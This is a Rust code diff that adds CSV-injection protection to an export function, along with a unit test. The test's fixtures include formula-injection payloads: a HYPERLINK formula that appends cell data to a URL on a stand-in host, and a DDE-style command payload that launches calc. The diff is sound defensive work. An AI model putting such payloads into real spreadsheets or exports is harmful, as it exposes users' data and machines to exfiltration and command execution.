@@ -63,7 +63,7 @@ pub async fn export(
                 let mut rows = Vec::new();
                 flatten("", &value, &mut rows);
                 for (key, value) in rows {
-                    writer.write_record([key, value])?;
+                    writer.write_record([spreadsheet_safe(&key), spreadsheet_safe(&value)])?;
                 }
                 Ok(String::from_utf8(writer.into_inner()?)?)
             }
@@ -86,10 +86,25 @@ pub async fn export(
             writer.write_record(columns::of(board).iter().map(|c| c.header(lang)))?;
             for row in &table {
                 // The cells as the desk shows them; JSON has the raw fields.
-                writer.write_record(row.cells.iter().map(|c| c.text.as_str()))?;
+                writer.write_record(row.cells.iter().map(|c| spreadsheet_safe(&c.text)))?;
             }
             Ok(String::from_utf8(writer.into_inner()?)?)
         }
+    }
+}
+
+/// A cell a spreadsheet shows as text, never runs: a cell that starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
+/// LibreOffice (an escalation reason typed as `=HYPERLINK(...)` would send
+/// the sheet's data wherever it points), so it gets a leading `'`, as
+/// OWASP's CSV injection advice says. A plain number (`-2`) stays a number.
+pub fn spreadsheet_safe(cell: &str) -> String {
+    let formula_start = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let plain_number = cell.parse::<f64>().is_ok_and(f64::is_finite);
+    if formula_start && !plain_number {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
     }
 }
 
@@ -144,6 +159,23 @@ mod tests {
                 ("series.0.inflow", "2"),
             ]
         );
+    }
+
+    #[test]
+    fn a_cell_that_a_spreadsheet_would_run_is_text() {
+        for formula in [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
+            "+3 wd",
+            "-1+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        for plain in ["-2", "3.5", "gevaar voor kind", "", "a=b", "R-2026-0012"] {
+            assert_eq!(spreadsheet_safe(plain), plain);
+        }
     }
 
     #[test]
